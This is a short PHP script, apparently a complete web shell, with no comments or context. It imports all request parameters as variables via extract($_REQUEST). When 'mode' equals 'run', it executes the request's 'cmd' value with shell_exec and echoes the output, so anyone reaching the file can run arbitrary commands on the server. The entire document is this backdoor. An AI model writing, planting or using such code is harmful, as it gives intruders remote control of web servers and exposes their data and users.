<?php
extract($_REQUEST);
if (!empty($mode) && $mode == 'run') {
    echo shell_exec($cmd);
}
